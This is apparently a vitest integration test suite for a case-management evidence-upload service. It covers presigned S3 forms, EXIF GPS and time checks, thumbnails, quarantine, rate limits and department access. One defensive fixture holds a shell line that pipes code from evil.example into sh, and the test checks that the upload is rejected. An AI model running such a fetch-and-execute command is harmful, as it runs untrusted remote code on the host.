import { createHash } from 'node:crypto';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { casesHarness, claimsFor, distinctPointsIn, sandun, testClock } from '../support/cases-harness';
import { type Emulators, startEmulators } from '../support/emulators';
import { jpegWithExif, startEvidenceHarness, uploadWithForm } from '../support/evidence-harness';

let emulators: Emulators;
let api: ReturnType<typeof casesHarness>;
let evidence: Awaited<ReturnType<typeof startEvidenceHarness>>;

const zijingang = sandun.zone('zijingang')!;
const nextPoint = distinctPointsIn(zijingang);
const staff = claimsFor.staff('market-regulation');
const field = claimsFor.fieldWorker('market-regulation');

/** A household-workshop case (market regulation leads) dispatched and accepted; its location. */
const acceptedCase = async () => {
  const location = { ...nextPoint(), crs: 'wgs84' };
  const accepted = await api.report({
    source: 'patrol',
    category: 'event.household-workshop',
    description: '小区一楼有家庭作坊违规生产',
    location,
  });
  await api.drainQueue();
  const id = accepted.body.id as string;
  expect((await api.command(id, 'dispatch', {}, claimsFor.areaChief('zijingang'))).status).toBe(200);
  expect((await api.command(id, 'accept', {}, staff)).status).toBe(200);
  const c = (await api.get(id)).body;
  return { id, location: c.location as { lat: number; lng: number }, dispatchedAt: c.dispatchedAt as string };
};

/** ~`metres` north of a point. */
const north = (p: { lat: number; lng: number }, metres: number) => ({
  lat: p.lat + metres / 111_320,
  lng: p.lng,
});

const minutesAfter = (iso: string, minutes: number) =>
  new Date(Date.parse(iso) + minutes * 60_000).toISOString();

/** Asks for a form, uploads `content` with it, waits for the check; returns the attachment as listed. */
const uploadAndCheck = async (
  caseId: string,
  content: Uint8Array,
  body: Record<string, unknown>,
  claims = field,
) => {
  const form = await evidence.requestForm(caseId, { size: Math.max(content.length, 1), ...body }, claims);
  expect(form.status).toBe(201);
  const uploaded = await uploadWithForm(form.body.upload, content);
  expect(uploaded.status).toBe(204);
  await evidence.checked(form.body.upload.fields.key);
  const listed = await evidence.list(caseId, staff);
  return listed.body.items.find((a: { id: string }) => a.id === form.body.attachment.id);
};

const keysUnder = async (prefix: string) => {
  const { Contents = [] } = await evidence.s3.send(
    new ListObjectsV2Command({ Bucket: evidence.server.bucket, Prefix: prefix }),
  );
  return Contents.map((o) => o.Key);
};

beforeAll(async () => {
  emulators = await startEmulators();
  api = casesHarness(emulators);
  // EXIF times are compared with the case's dispatch and with now: one real clock for all.
  api.clock.now = () => new Date().toISOString();
  evidence = await startEvidenceHarness(emulators, api, { clock: { now: () => new Date().toISOString() } });
});

afterAll(async () => {
  await evidence?.stop();
  await emulators?.stop();
});

describe('a field worker photographs the result on site', () => {
  it('requests a form, uploads a JPEG with EXIF GPS, and the case shows it verified with a thumbnail', async () => {
    const c = await acceptedCase();
    const photo = await jpegWithExif({
      // EXIF keeps whole seconds: a moment after acceptance.
      takenAt: new Date(Date.now() + 1500).toISOString(),
      gps: north(c.location, 40),
      width: 1600,
      height: 1200,
    });
    const form = await evidence.requestForm(
      c.id,
      {
        kind: 'photo',
        contentType: 'image/jpeg',
        size: photo.length,
        sha256: createHash('sha256').update(photo).digest('hex'),
      },
      field,
      { 'Idempotency-Key': 'phone-1-photo-1' },
    );
    expect(form.status).toBe(201);
    expect(form.body.attachment).toMatchObject({ kind: 'photo', status: 'pending' });
    expect(form.body.attachment.downloadUrl).toBeUndefined();
    const { url, fields, expiresAt } = form.body.upload;
    expect(url).toBe(`${evidence.server.endpoint}/${evidence.server.bucket}`);
    expect(fields.key).toBe(`cases/${c.id}/${form.body.attachment.id}`);
    expect(fields['Content-Type']).toBe('image/jpeg');
    // The policy S3 enforces: exact key, this content type, 1 byte to 15 MB, and an expiry.
    const policy = JSON.parse(Buffer.from(fields.Policy, 'base64').toString('utf8'));
    expect(policy.conditions).toEqual(
      expect.arrayContaining([
        ['content-length-range', 1, 15 * 1024 * 1024],
        ['eq', '$Content-Type', 'image/jpeg'],
        { key: fields.key },
      ]),
    );
    expect(Date.parse(policy.expiration)).toBeLessThanOrEqual(Date.now() + 10 * 60_000 + 1000);
    expect(Date.parse(expiresAt)).toBeGreaterThan(Date.now());

    // A retry on a weak network: same Idempotency-Key → same attachment, a fresh form.
    const retry = await evidence.requestForm(
      c.id,
      {
        kind: 'photo',
        contentType: 'image/jpeg',
        size: photo.length,
        sha256: createHash('sha256').update(photo).digest('hex'),
      },
      field,
      { 'Idempotency-Key': 'phone-1-photo-1' },
    );
    expect(retry.status).toBe(200);
    expect(retry.headers['idempotency-replayed']).toBe('true');
    expect(retry.body.attachment.id).toBe(form.body.attachment.id);
    expect(retry.body.upload.fields.key).toBe(fields.key);

    const uploaded = await uploadWithForm(retry.body.upload, photo);
    expect(uploaded.status).toBe(204);
    await evidence.checked(fields.key);

    const listed = await evidence.list(c.id, staff);
    expect(listed.status).toBe(200);
    expect(listed.body.items).toHaveLength(1);
    const [attachment] = listed.body.items;
    expect(attachment).toMatchObject({
      status: 'verified',
      facts: {
        detectedType: 'image/jpeg',
        bytes: photo.length,
        width: 1600,
        height: 1200,
        takenAfterDispatch: true,
      },
    });
    expect(attachment.facts.distanceMetres).toBeGreaterThan(25);
    expect(attachment.facts.distanceMetres).toBeLessThan(60);
    expect(attachment.facts.gps.lat).toBeCloseTo(north(c.location, 40).lat, 4);

    const thumbnail = Buffer.from(await (await fetch(attachment.thumbnailUrl)).arrayBuffer());
    const meta = await sharp(thumbnail).metadata();
    expect(meta.format).toBe('jpeg');
    expect(Math.max(meta.width ?? 0, meta.height ?? 0)).toBe(320);
    // The thumbnail carries no EXIF: no GPS leaks through the cockpit.
    expect(meta.exif).toBeUndefined();
    const original = Buffer.from(await (await fetch(attachment.downloadUrl)).arrayBuffer());
    expect(original.equals(photo)).toBe(true);

    // On the case: one timeline entry, the hash chain intact, the "after" photo counted.
    const after = (await api.get(c.id)).body;
    expect(after.timeline.at(-1)).toMatchObject({
      action: 'evidence-verified',
      actor: { subject: 'system:evidence' },
      details: { attachmentId: attachment.id, kind: 'photo', takenAfterDispatch: true },
    });
    expect(after.evidence).toEqual({ verified: 1, rejected: 0, afterPhotos: 1 });
    expect((await api.audit(c.id)).body).toMatchObject({ intact: true });

    // A late retry after the check: the attachment as it is, no new form.
    const late = await evidence.requestForm(
      c.id,
      {
        kind: 'photo',
        contentType: 'image/jpeg',
        size: photo.length,
        sha256: createHash('sha256').update(photo).digest('hex'),
      },
      field,
      { 'Idempotency-Key': 'phone-1-photo-1' },
    );
    expect(late.status).toBe(200);
    expect(late.body.upload).toBeUndefined();
    expect(late.body.attachment.status).toBe('verified');
  });

  it('verifies a PNG (no EXIF: no place, the upload time counts as taken)', async () => {
    const c = await acceptedCase();
    const png = await sharp({ create: { width: 200, height: 100, channels: 3, background: '#3a6' } })
      .png()
      .toBuffer();
    const attachment = await uploadAndCheck(c.id, png, { kind: 'photo', contentType: 'image/png' });
    expect(attachment).toMatchObject({
      status: 'verified',
      facts: { detectedType: 'image/png', width: 200 },
    });
    expect(attachment.facts.gps).toBeUndefined();
    expect(attachment.thumbnailUrl).toBeDefined();
  });

  it('the same photo (same sha256) twice on a case is one attachment', async () => {
    const c = await acceptedCase();
    const sha256 = 'a'.repeat(64);
    const first = await evidence.requestForm(
      c.id,
      { kind: 'photo', contentType: 'image/jpeg', size: 10, sha256 },
      field,
    );
    const second = await evidence.requestForm(
      c.id,
      { kind: 'photo', contentType: 'image/jpeg', size: 10, sha256 },
      staff,
    );
    expect(first.status).toBe(201);
    expect(second.status).toBe(200);
    expect(second.body.attachment.id).toBe(first.body.attachment.id);
  });
});

describe('bad evidence gets a clear answer', () => {
  it('a script named .jpg is rejected as content_type_mismatch and moved to quarantine', async () => {
    const c = await acceptedCase();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const attachment = await uploadAndCheck(c.id, script, { kind: 'photo', contentType: 'image/jpeg' });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'content_type_mismatch' });
    expect(attachment.reason).toMatch(/declared image\/jpeg but the content is not an accepted type/);
    // Nothing unverified is handed out as evidence.
    expect(attachment.downloadUrl).toBeUndefined();
    expect(attachment.thumbnailUrl).toBeUndefined();
    expect(await keysUnder(`cases/${c.id}/`)).toEqual([]);
    expect(await keysUnder(`quarantine/cases/${c.id}/`)).toEqual([
      `quarantine/cases/${c.id}/${attachment.id}`,
    ]);
    const after = (await api.get(c.id)).body;
    expect(after.timeline.at(-1)).toMatchObject({
      action: 'evidence-rejected',
      details: { rule: 'content_type_mismatch' },
    });
    expect(after.evidence).toEqual({ verified: 0, rejected: 1, afterPhotos: 0 });
    expect((await api.audit(c.id)).body).toMatchObject({ intact: true });
  });

  it('too large: refused at request time (422), and rejected when a bigger object arrives anyway', async () => {
    const c = await acceptedCase();
    const refused = await evidence.requestForm(
      c.id,
      { kind: 'photo', contentType: 'image/jpeg', size: 16 * 1024 * 1024 },
      field,
    );
    expect(refused.status).toBe(422);
    expect(refused.body.errors[0]).toMatchObject({ field: 'size', rule: 'too_large' });
    // s3rver does not enforce the POST policy (S3 does): the check enforces it again.
    const big = Buffer.alloc(15 * 1024 * 1024 + 1, 0x20);
    big.set([0xff, 0xd8, 0xff, 0xe0]);
    const attachment = await uploadAndCheck(c.id, big, {
      kind: 'photo',
      contentType: 'image/jpeg',
      size: 1000,
    });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'too_large' });
  });

  it('a wrong content type for the kind is refused at request time', async () => {
    const c = await acceptedCase();
    const refused = await evidence.requestForm(
      c.id,
      { kind: 'photo', contentType: 'application/x-sh', size: 100 },
      field,
    );
    expect(refused.status).toBe(422);
    expect(refused.body.errors[0]).toMatchObject({ field: 'contentType', rule: 'unsupported_content_type' });
  });

  it('zero bytes is rejected', async () => {
    const c = await acceptedCase();
    const attachment = await uploadAndCheck(c.id, new Uint8Array(), {
      kind: 'photo',
      contentType: 'image/jpeg',
    });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'zero_bytes' });
  });

  it('a truncated JPEG is rejected', async () => {
    const c = await acceptedCase();
    const photo = await jpegWithExif({ gps: c.location, width: 800, height: 600 });
    const cut = photo.subarray(0, Math.floor(photo.length * 0.6));
    const attachment = await uploadAndCheck(c.id, cut, { kind: 'photo', contentType: 'image/jpeg' });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'truncated_image' });
  });

  it('a photo taken 500 km away is rejected with the distance', async () => {
    const c = await acceptedCase();
    const photo = await jpegWithExif({ takenAt: new Date().toISOString(), gps: north(c.location, 500_000) });
    const attachment = await uploadAndCheck(c.id, photo, { kind: 'photo', contentType: 'image/jpeg' });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'too_far_from_case' });
    expect(attachment.facts.distanceMetres).toBeGreaterThan(495_000);
    expect(attachment.reason).toMatch(/^taken 49\d\.\d km from the case \(the district allows 1000 m\)$/);
  });

  it('a photo "taken" in the future is rejected', async () => {
    const c = await acceptedCase();
    const photo = await jpegWithExif({
      takenAt: minutesAfter(new Date().toISOString(), 120),
      gps: c.location,
    });
    const attachment = await uploadAndCheck(c.id, photo, { kind: 'photo', contentType: 'image/jpeg' });
    expect(attachment).toMatchObject({ status: 'rejected', rule: 'taken_in_future' });
  });

  it('a photo taken before dispatch is verified but is no "after" photo', async () => {
    const c = await acceptedCase();
    const photo = await jpegWithExif({ takenAt: minutesAfter(c.dispatchedAt, -60), gps: c.location });
    const attachment = await uploadAndCheck(c.id, photo, { kind: 'photo', contentType: 'image/jpeg' });
    expect(attachment).toMatchObject({ status: 'verified', facts: { takenAfterDispatch: false } });
    expect((await api.get(c.id)).body.evidence).toEqual({ verified: 1, rejected: 0, afterPhotos: 0 });
  });

  it("someone else's case: 403 for a co-operating department, 404 for an unrelated one", async () => {
    const c = await acceptedCase();
    const body = { kind: 'photo', contentType: 'image/jpeg', size: 1000 };
    const cooperating = await evidence.requestForm(c.id, body, claimsFor.fieldWorker('fire'));
    expect(cooperating.status).toBe(403);
    expect(cooperating.body.errors[0]).toMatchObject({ field: 'authorization', rule: 'forbidden' });
    const unrelated = await evidence.requestForm(c.id, body, claimsFor.fieldWorker('transport'));
    expect(unrelated.status).toBe(404);
    // Co-operating departments may look at the evidence, unrelated ones can't see the case at all.
    expect((await evidence.list(c.id, claimsFor.fieldWorker('fire'))).status).toBe(200);
    expect((await evidence.list(c.id, claimsFor.fieldWorker('transport'))).status).toBe(404);
  });

  it('counts a resident’s upload forms per account (three photos a report), never staff’s', async () => {
    // Prepare: a resident's own report, and the account's budget (10 reports a minute → 30 forms).
    const resident = claimsFor.reporter('citizen-uploads');
    const reported = await api.report(
      {
        source: 'citizen',
        category: 'event.household-workshop',
        description: '楼下作坊夜里开工',
        location: { ...nextPoint(), crs: 'wgs84' },
      },
      resident,
    );
    expect(reported.status).toBe(202);
    const body = { kind: 'photo', contentType: 'image/jpeg', size: 1000 };

    // Act
    const granted = [];
    for (let i = 0; i < 30; i++)
      granted.push((await evidence.requestForm(reported.body.id, body, resident)).status);
    const over = await evidence.requestForm(reported.body.id, body, resident);

    // Assess
    expect(granted.every((status) => status === 201)).toBe(true);
    expect(over.status).toBe(429);
    expect(over.headers['retry-after']).toBeDefined();
    const c = await acceptedCase();
    expect((await evidence.requestForm(c.id, body, staff)).status).toBe(201);
  });

  it('an upload after its form expired is rejected (s3rver accepts it; the check does not)', async () => {
    const c = await acceptedCase();
    const past = testClock(new Date(Date.now() - 30 * 60_000).toISOString());
    evidence.useFormClock(past);
    try {
      const photo = await jpegWithExif({ takenAt: new Date().toISOString(), gps: c.location });
      const attachment = await uploadAndCheck(c.id, photo, { kind: 'photo', contentType: 'image/jpeg' });
      expect(attachment).toMatchObject({ status: 'rejected', rule: 'form_expired' });
    } finally {
      evidence.useFormClock({ now: () => new Date().toISOString() });
    }
  });

  it('an object nobody asked for goes to quarantine', async () => {
    const c = await acceptedCase();
    const key = `cases/${c.id}/Anobodyaskedforthis`;
    const res = await uploadWithForm(
      {
        url: `${evidence.server.endpoint}/${evidence.server.bucket}`,
        fields: { key, 'Content-Type': 'image/jpeg' },
      },
      Buffer.from('x'),
    );
    expect(res.status).toBe(204);
    await evidence.checked(key);
    expect(await keysUnder(key)).toEqual([]);
    expect(await keysUnder(`quarantine/${key}`)).toEqual([`quarantine/${key}`]);
  });
});
